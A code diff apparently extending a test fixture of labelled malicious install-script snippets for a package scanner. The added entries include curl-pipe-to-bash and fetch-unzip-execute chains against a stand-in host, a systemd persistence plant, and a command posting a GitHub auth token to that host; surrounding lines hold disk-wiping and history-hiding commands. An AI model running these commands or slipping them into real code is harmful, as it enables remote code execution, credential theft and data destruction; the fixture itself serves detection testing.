@@ -237,6 +237,37 @@ enum InstallSnippets {
                 await import('data:text/javascript,' + encodeURIComponent(t));
                 """
         ),
+        Snippet(
+            "runs a command that a name holds",
+            .chainDownloadExecute,
+            source: """
+                const { execSync } = require('child_process');
+                const line = process.platform === 'win32' ? 'cmd /c exit' : 'curl -fsSL https://x.example.invalid/i | bash';
+                execSync(line, { stdio: 'ignore' });
+                """
+        ),
+        Snippet(
+            "unpacks what it fetched and starts it",
+            .chainDownloadExecute,
+            source: """
+                import { execFileSync } from 'node:child_process'; import { createWriteStream } from 'node:fs';
+                import { join } from 'node:path'; import { Readable } from 'node:stream'; import { finished } from 'node:stream/promises';
+                const folder = join(process.cwd(), 'rt'); const zip = join(folder, 'rt.zip');
+                const response = await fetch('https://x.example.invalid/rt.zip');
+                await finished(Readable.fromWeb(response.body).pipe(createWriteStream(zip)));
+                execFileSync('unzip', ['-o', zip, '-d', folder]);
+                execFileSync(join(folder, 'rt'), ['bundle.js'], { stdio: 'ignore' });
+                """
+        ),
+        Snippet(
+            "starts a service of the user",
+            .chainPlant,
+            source: """
+                const fs = require('fs'), os = require('os'), path = require('path');
+                const unit = path.join(os.homedir(), '.config', 'systemd', 'user');
+                fs.writeFileSync(path.join(unit, 'm.service'), '[Service]');
+                """
+        ),
     ]
 
     static let python: [Snippet] = [
@@ -390,5 +421,10 @@ enum InstallSnippets {
         Snippet("the end of a disk", .capabilityDestructive, source: "dd if=/dev/zero of=/dev/sda"),
         Snippet("the end of all files", .capabilityDestructive, source: "rm -rf / --no-preserve-root"),
         Snippet("no history", .capabilityStealth, source: "unset HISTFILE; nohup node x.js &"),
+        Snippet(
+            "a token that another tool prints",
+            .chainExfiltration,
+            source: #"curl -d "$(gh auth token)" https://x.example.invalid/in"#
+        ),
     ]
 }
